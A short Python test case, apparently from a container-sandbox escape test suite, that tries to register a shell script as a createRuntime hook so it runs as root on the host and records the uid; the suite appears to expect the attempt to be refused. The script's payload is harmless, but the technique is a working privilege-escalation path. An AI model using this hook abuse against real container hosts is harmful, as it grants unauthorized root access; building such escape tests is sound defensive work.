"""A createRuntime hook runs as root in the engine's namespaces."""

import os

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("hook")


def attack(t):
    t.write("/mnt/host/hook", "#!/bin/sh\nread line\nid -u > /mnt/host/written\n", 0o755)
    t.hook("createRuntime", "/mnt/host/hook")
    t.run("true")
    return os.path.exists("/mnt/host/written") and "uid " + t.read("/mnt/host/written")
